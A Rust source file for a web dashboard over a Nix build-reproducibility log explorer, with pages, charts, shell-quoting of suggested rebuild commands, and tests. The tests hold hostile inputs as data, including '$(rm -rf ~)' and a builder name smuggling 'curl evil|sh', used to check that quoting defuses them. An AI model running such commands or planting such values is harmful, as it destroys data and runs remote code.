//! The dashboard: web pages over the research API's answers, rendered on the server. Each page
//! is drawn from the same answer its JSON endpoint serves (and links to it), works without
//! JavaScript, and has a table behind every chart. The stylesheet and the one script are
//! embedded in the binary: nothing is fetched from elsewhere.

use std::collections::HashMap;
use std::sync::Arc;

use axum::extract::{Path, Query, State};
use axum::http::header;
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use axum::{Form, Router};
use maud::{html, Markup, DOCTYPE};
use reprolog_verifier::compare::Verdict;
use reprolog_verifier::dating::parse_rfc3339;
use reprolog_verifier::explorer_api::{
    Bucket, FollowState, IndexedClaim, PairAgreement, StatusAnswer, TimeseriesAnswer,
};
use serde::Deserialize;

use crate::charts::{self, Part, Point, Style, TimeChart};
use crate::db::Db;
use crate::http::{self, ApiError, DisagreementsQuery, SearchQuery, TimeseriesQuery};

const STYLE: &str = include_str!("../assets/style.css");
const SCRIPT: &str = include_str!("../assets/dashboard.js");
/// Rows of a report's table, at most: the summary counts every path.
const REPORT_ROWS: usize = 2000;
/// Builders whose entries over time the builders page charts, at most, and builders in its
/// agreement matrix: those with the most entries.
const CHARTED_BUILDERS: usize = 24;
const MATRIX_BUILDERS: usize = 40;

pub fn router() -> Router<Arc<Db>> {
    Router::new()
        .route("/", get(overview))
        .route("/builders", get(builders))
        .route("/disagreements", get(disagreements))
        .route("/paths/{hash}", get(path))
        .route("/search", get(search))
        .route("/report", get(report_form).post(report))
        .route("/assets/style.css", get(|| asset("text/css", STYLE)))
        .route(
            "/assets/dashboard.js",
            get(|| asset("text/javascript", SCRIPT)),
        )
}

async fn asset(content_type: &'static str, body: &'static str) -> Response {
    (
        [
            (header::CONTENT_TYPE, content_type),
            (header::CACHE_CONTROL, "public, max-age=3600"),
        ],
        body,
    )
        .into_response()
}

/// A page that could not be drawn: the API's status and reason, as a page.
pub struct PageError(ApiError);

impl From<ApiError> for PageError {
    fn from(e: ApiError) -> Self {
        PageError(e)
    }
}

impl IntoResponse for PageError {
    fn into_response(self) -> Response {
        let ApiError(code, why) = self.0;
        let body = layout(
            code.canonical_reason().unwrap_or("Error"),
            None,
            html! {
                h1 { (code.as_u16()) " " (code.canonical_reason().unwrap_or("")) }
                p.error role="alert" { (why) }
                p { a href="/" { "Back to the overview" } }
            },
        );
        (code, body).into_response()
    }
}

type PageResult = Result<Html<String>, PageError>;

/// Every page's frame: navigation, the page, and the JSON it was drawn from.
fn layout(title: &str, json: Option<&str>, main: Markup) -> Html<String> {
    let nav = [
        ("/", "Overview"),
        ("/builders", "Builders"),
        ("/disagreements", "Disagreements"),
        ("/search", "Search"),
        ("/report", "Report"),
    ];
    Html(
        html! {
            (DOCTYPE)
            html lang="en" {
                head {
                    meta charset="utf-8";
                    meta name="viewport" content="width=device-width, initial-scale=1";
                    title { (title) " · reprolog explorer" }
                    link rel="stylesheet" href="/assets/style.css";
                    script src="/assets/dashboard.js" defer {}
                }
                body {
                    a.skip href="#main" { "Skip to content" }
                    header {
                        nav aria-label="Main" {
                            ul {
                                @for (href, name) in nav {
                                    li { a href=(href) { (name) } }
                                }
                            }
                        }
                    }
                    main id="main" { (main) }
                    footer {
                        @if let Some(json) = json {
                            p { "Drawn from " a.json href=(json) { (json) } "." }
                        }
                        p {
                            "Every entry was verified against its log's cosigned checkpoints; "
                            "every time shown comes from a cosigned checkpoint."
                        }
                    }
                }
            }
        }
        .into_string(),
    )
}

/// A table's head: one header cell per column.
fn column_heads(names: &[&str]) -> Markup {
    html! { thead { tr { @for name in names { th scope="col" { (name) } } } } }
}

fn verdict_badge(v: Verdict) -> Markup {
    html! { span class=(format!("verdict {}", v.as_str())) { (v.as_str()) } }
}

/// The hash part of a store path, for links to its page.
fn hash_of(store_path: &str) -> &str {
    let base = store_path.rsplit('/').next().unwrap_or(store_path);
    base.get(..32).unwrap_or(base)
}

fn path_link(store_path: &str) -> Markup {
    html! { a.path href=(format!("/paths/{}", hash_of(store_path))) { code { (store_path) } } }
}

/// The overview's and builders' time charts read hourly buckets with `?bucket=hour`.
#[derive(Default, Deserialize)]
struct BucketQuery {
    bucket: Option<String>,
}

fn start_of(b: &Bucket) -> u64 {
    parse_rfc3339(&b.start).unwrap_or(0)
}

fn rate(b: &Bucket) -> Option<f64> {
    (b.compared > 0).then(|| 100.0 * b.reproduced as f64 / b.compared as f64)
}

/// The reproducibility rate per bucket (where anything was compared) and entries logged per
/// bucket, with the table they are drawn from.
fn time_charts(id: &str, series: &TimeseriesAnswer, with_rate: bool) -> Markup {
    // The answer's bucket is one the API accepted.
    let seconds = http::bucket_seconds(&series.bucket).unwrap_or(86_400);
    let label = |b: &Bucket| charts::bucket_label(start_of(b), seconds);
    let entries = TimeChart {
        id: &format!("{id}-entries"),
        title: "Entries logged",
        legend: "entries logged",
        unit: "entries",
        bucket_seconds: seconds,
        style: Style::Bars,
        y_max: None,
        points: series
            .buckets
            .iter()
            .map(|b| Point {
                start: start_of(b),
                value: b.entries as f64,
                label: format!("{}: {} entries logged", label(b), b.entries),
            })
            .collect(),
    };
    let reproducibility = TimeChart {
        id: &format!("{id}-rate"),
        title: "Reproducibility rate",
        legend: "paths reproduced, of those compared",
        unit: "%",
        bucket_seconds: seconds,
        style: Style::Line,
        y_max: Some(100.0),
        points: series
            .buckets
            .iter()
            .filter_map(|b| {
                Some(Point {
                    start: start_of(b),
                    value: rate(b)?,
                    label: format!(
                        "{}: {:.1}% reproduced ({} of {} compared)",
                        label(b),
                        rate(b)?,
                        b.reproduced,
                        b.compared
                    ),
                })
            })
            .collect(),
    };
    html! {
        div.charts {
            @if with_rate { figure { (charts::time_chart(&reproducibility)) } }
            figure { (charts::time_chart(&entries)) }
        }
        details {
            summary { "The numbers behind the charts" }
            div.scroll tabindex="0" role="region" aria-label="The numbers behind the charts" {
                table {
                    caption { "Per " (series.bucket) " (UTC)" }
                    (column_heads(&[&series.bucket, "entries", "compared", "reproduced", "unreproduced", "rate"]))
                    tbody {
                        @for b in &series.buckets {
                            tr {
                                th scope="row" { (b.start) }
                                td { (b.entries) }
                                td { (b.compared) }
                                td { (b.reproduced) }
                                td { (b.unreproduced) }
                                td { @if let Some(r) = rate(b) { (format!("{r:.1}%")) } @else { "–" } }
                            }
                        }
                    }
                }
            }
        }
    }
}

fn bucket_choice(current: &str, page: &str) -> Markup {
    html! {
        p.choice {
            "Buckets: "
            @for b in ["day", "hour"] {
                @if b == current {
                    strong aria-current="true" { (b) }
                } @else {
                    a href=(format!("{page}?bucket={b}")) { (b) }
                }
                " "
            }
        }
    }
}

/// A checkpoint's size and root hash, from its signed text.
fn checkpoint_summary(note: &str) -> String {
    let mut lines = note.lines().skip(1);
    match (lines.next(), lines.next()) {
        (Some(size), Some(root)) => format!("size {size}, root {root}"),
        _ => String::new(),
    }
}

fn logs_table(status: &StatusAnswer) -> Markup {
    html! {
        div.scroll tabindex="0" role="region" aria-label="Followed logs" {
            table #logs.cards {
                caption { "Followed logs" }
                (column_heads(&["Log", "Verified entries", "Latest checkpoint", "Cosigned by", "State"]))
                tbody {
                    @for log in &status.logs {
                        @let stopped = log.state == FollowState::Stopped;
                        tr class=[stopped.then_some("stopped")] {
                            th scope="row" { (log.origin) br; small { (log.url) } }
                            td.number data-label="Verified entries" { (log.verified_size) }
                            td data-label="Latest checkpoint" { code.wrap { (log.checkpoint.as_deref().map(checkpoint_summary).unwrap_or_default()) } }
                            td data-label="Cosigned by" { (log.cosigned_by.join(", ")) }
                            td.state data-label="State" {
                                @if stopped { strong { "stopped" } } @else { "following" }
                                @if let Some(why) = &log.reason { br; span.reason { (why) } }
                            }
                        }
                    }
                }
            }
        }
    }
}

async fn overview(State(db): State<Arc<Db>>, Query(q): Query<BucketQuery>) -> PageResult {
    let status = http::status_answer(&db).await?;
    let bucket = q.bucket.unwrap_or_else(|| "day".into());
    let series = http::timeseries_answer(
        &db,
        TimeseriesQuery {
            bucket: Some(bucket.clone()),
            builder: None,
        },
    )
    .await?;
    let t = &status.totals;
    let totals = [
        ("entries", "Entries", t.entries),
        ("paths", "Store paths", t.paths),
        ("builders", "Builders", t.builders),
        ("reproduced", "Reproduced", t.reproduced),
        ("unreproduced", "Unreproduced", t.unreproduced),
        ("one-builder", "One builder", t.one_builder),
    ];
    Ok(layout(
        "Overview",
        Some("/api/v1/status"),
        html! {
            h1 { "Reproducibility of the followed logs" }
            section aria-labelledby="totals-heading" {
                h2 #totals-heading { "Totals" }
                dl.totals {
                    @for (id, name, n) in totals {
                        div class=(format!("total {id}")) {
                            dt { (name) }
                            dd id=(format!("total-{id}")) { (n) }
                        }
                    }
                }
            }
            section aria-labelledby="logs-heading" {
                h2 #logs-heading { "Logs" }
                (logs_table(&status))
            }
            section aria-labelledby="time-heading" {
                h2 #time-heading { "Over time" }
                (bucket_choice(&bucket, "/"))
                (time_charts("overview", &series, true))
                p.json { "Drawn from " a.json href=(format!("/api/v1/timeseries?bucket={bucket}")) { "/api/v1/timeseries" } "." }
            }
        },
    ))
}

/// A cell's background: red for no agreement through green for full agreement, light enough
/// for dark text to keep its contrast.
fn heat(share: f64) -> String {
    format!("hsl({:.0}, 70%, 82%)", share.clamp(0.0, 1.0) * 120.0)
}

/// The pairs by their two builders, in either order.
type PairIndex<'a> = HashMap<(&'a str, &'a str), &'a PairAgreement>;

fn agreement_cell(a: &str, b: &str, pairs: &PairIndex) -> Markup {
    if a == b {
        return html! { td.self { "–" } };
    }
    match pairs.get(&(a, b)) {
        Some(p) if p.common > 0 => {
            let share = p.agree as f64 / p.common as f64;
            // Rounded down: a pair that disagrees on any path never shows 100%.
            let percent = 100 * p.agree / p.common;
            let hover = format!(
                "{a} and {b}: {} common paths, {} agree, {} disagree",
                p.common, p.agree, p.disagree
            );
            html! {
                td.heat style=(format!("background: {}", heat(share))) title=(hover)
                    data-agree=(p.agree) data-common=(p.common) data-disagree=(p.disagree) {
                    strong { (percent) "%" }
                    br;
                    small { (p.agree) "/" (p.common) }
                }
            }
        }
        _ => html! { td.none title=(format!("{a} and {b}: no path in common")) { "·" } },
    }
}

async fn builders(State(db): State<Arc<Db>>, Query(q): Query<BucketQuery>) -> PageResult {
    let bucket = q.bucket.unwrap_or_else(|| "day".into());
    let mut builders = http::builders_answer(&db).await?.builders;
    let pairs = http::agreement_answer(&db).await?.pairs;
    let pair_index: PairIndex = pairs
        .iter()
        .flat_map(|p| {
            [
                ((p.a.as_str(), p.b.as_str()), p),
                ((p.b.as_str(), p.a.as_str()), p),
            ]
        })
        .collect();
    // The builders with the most entries are drawn; the logs decide how many builders there
    // are, so the matrix and the charts are capped, and the JSON has the rest.
    let total = builders.len();
    builders.sort_by(|x, y| {
        y.entries
            .cmp(&x.entries)
            .then_with(|| x.builder.cmp(&y.builder))
    });
    let shown: Vec<&str> = builders
        .iter()
        .take(MATRIX_BUILDERS)
        .map(|b| b.builder.as_str())
        .collect();
    let mut series = Vec::new();
    for b in builders.iter().take(CHARTED_BUILDERS) {
        let answer = http::timeseries_answer(
            &db,
            TimeseriesQuery {
                bucket: Some(bucket.clone()),
                builder: Some(b.builder.clone()),
            },
        )
        .await?;
        series.push((b.builder.clone(), answer));
    }
    let names = &shown;
    Ok(layout(
        "Builders",
        Some("/api/v1/builders"),
        html! {
            h1 { "Builders" }
            section aria-labelledby="builders-heading" {
                h2 #builders-heading { "Who signed what" }
                div.scroll tabindex="0" role="region" aria-label="Builders (identities of the logs' key registries)" {
                    table #builders.cards {
                        caption { "Builders (identities of the logs' key registries)" }
                        (column_heads(&["Builder", "Entries", "Paths", "First logged", "Last logged"]))
                        tbody {
                            @for b in &builders {
                                tr {
                                    th scope="row" { a href=(format!("/disagreements?builder={}", urlencode(&b.builder))) { (b.builder) } }
                                    td.number data-label="Entries" { (b.entries) }
                                    td.number data-label="Paths" { (b.paths) }
                                    td data-label="First logged" { (b.first_logged.as_deref().unwrap_or("–")) }
                                    td data-label="Last logged" { (b.last_logged.as_deref().unwrap_or("–")) }
                                }
                            }
                        }
                    }
                }
            }
            section aria-labelledby="agreement-heading" {
                h2 #agreement-heading { "How often builders agree" }
                p {
                    "Each cell: of the paths both builders claimed, the share on which each claimed "
                    "one NAR hash, the same; below it, agreeing over common paths."
                }
                div.scroll tabindex="0" role="region" aria-label="Agreement between pairs of builders" {
                    table #agreement.heatmap {
                        caption { "Agreement between pairs of builders" }
                        thead { tr {
                            td {}
                            @for n in names { th scope="col" { (n) } }
                        } }
                        tbody {
                            @for a in names {
                                tr {
                                    th scope="row" { (a) }
                                    @for b in names { (agreement_cell(a, b, &pair_index)) }
                                }
                            }
                        }
                    }
                }
                @if total > names.len() {
                    p { "The " (names.len()) " builders with the most entries, of " (total) "; every pair is in the JSON." }
                }
                p.json { "Drawn from " a.json href="/api/v1/agreement" { "/api/v1/agreement" } "." }
            }
            section aria-labelledby="over-time-heading" {
                h2 #over-time-heading { "Entries over time, per builder" }
                (bucket_choice(&bucket, "/builders"))
                @if total > series.len() {
                    p { "The " (series.len()) " builders with the most entries, of " (total) "." }
                }
                @for (i, (name, answer)) in series.iter().enumerate() {
                    h3 { (name) }
                    (time_charts(&format!("builder-{i}"), answer, false))
                }
            }
        },
    ))
}

/// Minimal percent-encoding for a query value.
fn urlencode(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The disagreements form's fields, as a browser sends them: empty when not set, dates as
/// `YYYY-MM-DD`.
#[derive(Default, Deserialize)]
struct DisagreementsForm {
    builder: Option<String>,
    since: Option<String>,
    until: Option<String>,
    after: Option<String>,
}

fn non_empty(s: Option<String>) -> Option<String> {
    s.filter(|s| !s.trim().is_empty())
}

/// Whether a form's value is a plain date, `YYYY-MM-DD`, as `<input type=date>` sends it.
fn is_date(s: &str) -> bool {
    s.len() == 10 && parse_rfc3339(&format!("{s}T00:00:00Z")).is_some()
}

/// A form's date or time as the API's: a day starts at its first second, and `until`, which
/// the API excludes, is the start of the next day, so the whole day is in.
fn day_or_time(s: Option<String>, until: bool) -> Option<String> {
    non_empty(s).map(|s| {
        let t = s.trim();
        match parse_rfc3339(&format!("{t}T00:00:00Z")).filter(|_| is_date(t)) {
            Some(day) => (day + if until { 86_400 } else { 0 }).to_string(),
            None => t.to_owned(),
        }
    })
}

async fn disagreements(
    State(db): State<Arc<Db>>,
    Query(form): Query<DisagreementsForm>,
) -> PageResult {
    let builder = non_empty(form.builder);
    let since = non_empty(form.since);
    let until = non_empty(form.until);
    let query = DisagreementsQuery {
        builder: builder.clone(),
        since: day_or_time(since.clone(), false),
        until: day_or_time(until.clone(), true),
        after: non_empty(form.after),
        limit: Some(50),
    };
    let mut json = String::from("/api/v1/disagreements?limit=50");
    for (name, value) in [
        ("builder", &query.builder),
        ("since", &query.since),
        ("until", &query.until),
        ("after", &query.after),
    ] {
        if let Some(v) = value {
            json.push_str(&format!("&{name}={}", urlencode(v)));
        }
    }
    let answer = http::disagreements_answer(&db, query).await?;
    let builders = http::builders_answer(&db).await?.builders;
    let next = answer.next.as_ref().map(|n| {
        let mut href = format!("/disagreements?after={}", urlencode(n));
        for (name, value) in [("builder", &builder), ("since", &since), ("until", &until)] {
            if let Some(v) = value {
                href.push_str(&format!("&{name}={}", urlencode(v)));
            }
        }
        href
    });
    let date_value = |v: &Option<String>| v.clone().unwrap_or_default();
    // A date picker drops what is not a date: a time given in the URL shows as text instead.
    let time_input = |v: &Option<String>| match v {
        Some(t) if !is_date(t) => "text",
        _ => "date",
    };
    Ok(layout(
        "Disagreements",
        Some(&json),
        html! {
            h1 { "Unreproduced paths" }
            p { "Paths claimed with two or more NAR hashes, newest first." }
            form.filters method="get" action="/disagreements" {
                div {
                    label for="builder" { "Builder" }
                    select #builder name="builder" {
                        option value="" { "Any builder" }
                        // A builder asked for that the index does not know still shows.
                        @if let Some(unknown) = builder.as_ref().filter(|n| !builders.iter().any(|b| &&b.builder == n)) {
                            option value=(unknown) selected { (unknown) }
                        }
                        @for b in &builders {
                            option value=(b.builder) selected[builder.as_deref() == Some(b.builder.as_str())] { (b.builder) }
                        }
                    }
                }
                div {
                    label for="since" { "Since (UTC)" }
                    input #since type=(time_input(&since)) name="since" value=(date_value(&since));
                }
                div {
                    label for="until" { "Until (UTC)" }
                    input #until type=(time_input(&until)) name="until" value=(date_value(&until));
                }
                div { button type="submit" { "Filter" } }
            }
            @if answer.paths.is_empty() {
                p #none { "No unreproduced path matches." }
            } @else {
                div.scroll tabindex="0" role="region" aria-label="Unreproduced paths, newest first" {
                    table #disagreements.cards {
                        caption { "Unreproduced paths, newest first" }
                        (column_heads(&["Store path", "Last logged", "Builders", "NAR hashes"]))
                        tbody {
                            @for d in &answer.paths {
                                tr {
                                    th scope="row" { (path_link(&d.store_path)) }
                                    td data-label="Last logged" { (d.last_logged.as_deref().unwrap_or("–")) }
                                    td data-label="Builders" { (d.builders.join(", ")) }
                                    td data-label="NAR hashes" { @for h in &d.nar_hashes { code.wrap { (h) } br; } }
                                }
                            }
                        }
                    }
                }
            }
            @if let Some(href) = next {
                p { a rel="next" href=(href) { "Older disagreements" } }
            }
        },
    ))
}

/// `s` as one word of a POSIX shell: as it is when it holds only characters no shell treats
/// specially, else in single quotes. Paths, derivations and builder names come from the logs,
/// and the commands are for pasting into a terminal.
fn shell_word(s: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._+=/:,@%-".contains(c);
    if !s.is_empty() && s.chars().all(plain) {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

/// The commands that rebuild a path and compare two results, each with the real path.
fn next_steps(store_path: &str, claims: &[IndexedClaim]) -> Markup {
    let path = shell_word(store_path);
    let deriver = claims.iter().find_map(|c| c.deriver.as_deref());
    let find_drv = match deriver {
        Some(d) => format!("drv={}", shell_word(d)),
        None => format!("drv=$(nix-store --query --deriver {path})"),
    };
    let rebuild = format!("{find_drv}\nnix-build --check \"$drv\"\nnix build --rebuild \"$drv^*\"");
    // Two results to compare: the first claim, and one with another NAR hash, by another
    // builder where there is one.
    let counted: Vec<&IndexedClaim> = claims.iter().filter(|c| c.void.is_none()).collect();
    let first = counted.first();
    let other = first.and_then(|a| {
        let differs = |c: &&&IndexedClaim| c.nar_hash != a.nar_hash;
        counted
            .iter()
            .filter(differs)
            .find(|c| c.builder != a.builder)
            .or_else(|| counted.iter().find(differs))
    });
    // Builder names go in a comment only, made printable so that no line break ends it.
    let who = |c: &IndexedClaim| {
        format!(
            "{} ({})",
            reprolog_verifier::text::printable(&c.builder),
            c.nar_hash
        )
    };
    let compare = match (first, other) {
        (Some(a), Some(b)) => format!(
            "# CACHE_A: a binary cache with the result of {}\n\
             # CACHE_B: one with the result of {}\n\
             nix store dump-path --store \"$CACHE_A\" {path} > a.nar\n\
             nix store dump-path --store \"$CACHE_B\" {path} > b.nar\n\
             diffoscope a.nar b.nar",
            who(a),
            who(b)
        ),
        (Some(a), None) => format!(
            "# CACHE_A: a binary cache with the result of {}\n\
             nix store dump-path --store \"$CACHE_A\" {path} > a.nar\n\
             nix store dump-path {path} > mine.nar   # after your rebuild\n\
             diffoscope a.nar mine.nar",
            who(a)
        ),
        _ => String::new(),
    };
    html! {
        section #next aria-labelledby="next-heading" {
            h2 #next-heading { "What to do next" }
            p {
                "Rebuild it and check that your build gives the same bytes"
                @if deriver.is_none() { " (the derivation comes from your store, where the path must be)" }
                ":"
            }
            pre #rebuild { code { (rebuild) } }
            @if !compare.is_empty() {
                p { "Compare two results byte by byte with diffoscope:" }
                pre #compare { code { (compare) } }
            }
        }
    }
}

fn claims_table(claims: &[IndexedClaim]) -> Markup {
    html! {
    div.scroll tabindex="0" role="region" aria-label="Every claim about this path, in log order" {
        table #claims.cards {
            caption { "Every claim about this path, in log order" }
            (column_heads(&["Builder", "NAR hash", "NAR size", "Log", "Index", "Logged", "Kind"]))
            tbody {
                @for c in claims {
                    tr.claim.void[c.void.is_some()] {
                        th scope="row" { (c.builder) br; small { "key " (c.key) } }
                        td data-label="NAR hash" { code.wrap { (c.nar_hash) } }
                        td.number data-label="NAR size" { (c.nar_size) }
                        td data-label="Log" { (c.log) }
                        td.number data-label="Index" { (c.index) }
                        td data-label="Logged" { (c.logged_at.as_deref().unwrap_or("not yet cosigned")) }
                        td data-label="Kind" {
                            (c.kind)
                            @if let Some(d) = &c.deriver { br; small { "from " code { (d) } } }
                            @if let Some(v) = &c.void { br; strong.reason { "void: " (v) } }
                        }
                    }
                }
            }
        }
    }
    }
}

async fn path(State(db): State<Arc<Db>>, Path(hash): Path<String>) -> PageResult {
    let answer = http::path_answer(&db, hash.clone()).await?;
    let name = answer
        .store_path
        .rsplit('/')
        .next()
        .and_then(|b| b.get(33..))
        .unwrap_or(&answer.store_path)
        .to_owned();
    Ok(layout(
        &name,
        Some(&format!("/api/v1/paths/{hash}")),
        html! {
            h1 { (name) }
            p { code.wrap #store-path { (answer.store_path) } }
            p { "Verdict: " span #verdict { (verdict_badge(answer.verdict)) } }
            (claims_table(&answer.claims))
            (next_steps(&answer.store_path, &answer.claims))
        },
    ))
}

async fn search(State(db): State<Arc<Db>>, Query(q): Query<SearchQuery>) -> PageResult {
    let text = non_empty(q.q.clone());
    let answer = match &text {
        Some(_) => Some(http::search_answer(&db, q).await?),
        None => None,
    };
    let json = text
        .as_ref()
        .map(|t| format!("/api/v1/search?q={}", urlencode(t)));
    Ok(layout(
        "Search",
        json.as_deref(),
        html! {
            h1 { "Search store paths" }
            form.search role="search" method="get" action="/search" {
                label for="q" { "Name or hash prefix" }
                input #q type="search" name="q" value=(text.clone().unwrap_or_default())
                    autocomplete="off" spellcheck="false" placeholder="e.g. openssl-3"
                    aria-describedby="search-hint" aria-controls="results";
                button type="submit" { "Search" }
                p #search-hint.hint { "Results appear as you type." }
            }
            div #results aria-live="polite" {
                @if let Some(answer) = &answer {
                    @if answer.paths.is_empty() {
                        p.none { "No store path matches." }
                    } @else {
                        ul.results {
                            @for p in &answer.paths {
                                li { (path_link(&p.store_path)) " " (verdict_badge(p.verdict)) }
                            }
                        }
                        @if let (Some(next), Some(q)) = (&answer.next, &text) {
                            p { a.more rel="next" href=(format!("/search?q={}&after={}", urlencode(q), urlencode(next))) { "More results" } }
                        }
                    }
                }
            }
        },
    ))
}

fn report_input(paths: &str) -> Markup {
    html! {
        form.report method="post" action="/report" {
            label for="paths" { "Store paths, one a line (e.g. the output of " code { "nix path-info -r" } ")" }
            textarea #paths name="paths" rows="10" spellcheck="false" { (paths) }
            // Reading a file into the form takes the script, so without it the field stays hidden.
            div #upload hidden {
                label for="file" { "Or upload that output as a file" }
                input #file type="file" accept="text/plain,.txt";
            }
            button type="submit" { "Report" }
        }
    }
}

async fn report_form() -> Html<String> {
    layout(
        "Report",
        None,
        html! {
            h1 { "Report on a closure" }
            p { "Each path's verdict over the followed logs, and a summary, as for a system's closure." }
            (report_input(""))
        },
    )
}

#[derive(Deserialize)]
struct ReportForm {
    paths: String,
}

async fn report(State(db): State<Arc<Db>>, Form(form): Form<ReportForm>) -> PageResult {
    let answer = http::report_answer(&db, &form.paths).await?;
    let s = &answer.summary;
    let parts = [
        ("reproduced", s.reproduced, Verdict::Reproduced),
        ("unreproduced", s.unreproduced, Verdict::Unreproduced),
        ("one builder", s.one_builder, Verdict::OneBuilder),
        ("not logged", s.not_logged, Verdict::NotLogged),
    ]
    .map(|(name, count, verdict)| Part {
        name,
        count: count as u64,
        class: verdict.as_str(),
    });
    // The paths that need attention first.
    let order = |v: Verdict| match v {
        Verdict::Unreproduced => 0,
        Verdict::NotLogged => 1,
        Verdict::OneBuilder => 2,
        Verdict::Reproduced => 3,
    };
    let mut paths: Vec<_> = answer.paths.iter().collect();
    paths.sort_by_key(|p| order(p.verdict));
    Ok(layout(
        "Report",
        None,
        html! {
            h1 { "Report on " (s.paths) " store paths" }
            figure.summary { (charts::stacked_bar("summary", "Verdicts", &parts)) }
            div.scroll tabindex="0" role="region" aria-label="Summary" {
                table #summary-table {
                    caption { "Summary" }
                    tbody {
                        @for p in &parts {
                            tr { th scope="row" { (p.name) } td.number id=(format!("count-{}", p.class)) { (p.count) } }
                        }
                        tr {
                            th scope="row" { "reproducibility" }
                            td.number { @if let Some(r) = s.reproducibility { (format!("{:.1}%", 100.0 * r)) } @else { "–" } }
                        }
                    }
                }
            }
            div.scroll tabindex="0" role="region" aria-label="Each path, those needing attention first" {
                table #report.cards {
                    caption {
                        "Each path, those needing attention first"
                        @if paths.len() > REPORT_ROWS { " (the first " (REPORT_ROWS) ")" }
                    }
                    (column_heads(&["Store path", "Verdict"]))
                    tbody {
                        @for p in paths.iter().take(REPORT_ROWS) {
                            tr class=(p.verdict.as_str()) {
                                th scope="row" { (path_link(&p.store_path)) }
                                td data-label="Verdict" { (verdict_badge(p.verdict)) }
                            }
                        }
                    }
                }
            }
            p.json {
                "The same as JSON: POST the list to " code { "/api/v1/report" }
                ", e.g. " code { "curl --data-binary @closure.txt <explorer>/api/v1/report" } "."
            }
            h2 { "Another report" }
            (report_input(&form.paths))
        },
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn claim(builder: &str, hash: &str, void: Option<&str>) -> IndexedClaim {
        IndexedClaim {
            store_path: "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-stamp".into(),
            log: "example.com/log".into(),
            index: 1,
            kind: "cache-signature".into(),
            builder: builder.into(),
            key: builder.into(),
            nar_hash: hash.into(),
            nar_size: 1,
            references: Vec::new(),
            deriver: None,
            logged_at: None,
            void: void.map(str::to_owned),
        }
    }

    #[test]
    fn words_from_the_logs_stay_words_in_a_shell() {
        assert_eq!(
            shell_word("/nix/store/abc-hello-2.12"),
            "/nix/store/abc-hello-2.12"
        );
        assert_eq!(shell_word("a b"), "'a b'");
        assert_eq!(shell_word("$(rm -rf ~)"), "'$(rm -rf ~)'");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn a_hostile_builder_name_cannot_run_in_the_commands() {
        let path = "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-a;b";
        let hostile = "b$(curl${IFS}evil|sh)\nrm";
        let page = next_steps(
            path,
            &[
                claim("good", "sha256:1", None),
                claim(hostile, "sha256:2", None),
            ],
        )
        .into_string();
        // The path is quoted wherever a command uses it, and the name only in a comment line.
        assert!(
            page.contains("--deriver '/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-a;b'"),
            "{page}"
        );
        for line in page.lines().filter(|l| l.contains("curl")) {
            assert!(line.trim_start().starts_with("# CACHE_B"), "{line}");
        }
        assert!(page.contains("diffoscope a.nar b.nar"), "{page}");
    }

    #[test]
    fn one_builder_with_two_results_gets_two_files_to_compare() {
        let page = next_steps(
            "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-stamp",
            &[claim("b1", "sha256:1", None), claim("b1", "sha256:2", None)],
        )
        .into_string();
        assert!(
            page.contains("&gt; a.nar") && page.contains("&gt; b.nar"),
            "{page}"
        );
        // A void claim is not a result to compare.
        let page = next_steps(
            "/nix/store/ll5g4yaysc30yh3w5r6m1gk1ix5ah6sx-stamp",
            &[
                claim("b1", "sha256:1", None),
                claim("b2", "sha256:2", Some("revoked")),
            ],
        )
        .into_string();
        assert!(page.contains("mine.nar"), "{page}");
    }

    #[test]
    fn a_void_claim_is_marked() {
        let table =
            claims_table(&[claim("b1", "sha256:1", Some("revoked as of index 0"))]).into_string();
        assert!(table.contains(r#"<tr class="claim void">"#), "{table}");
        assert!(table.contains("void: revoked as of index 0"), "{table}");
    }
}
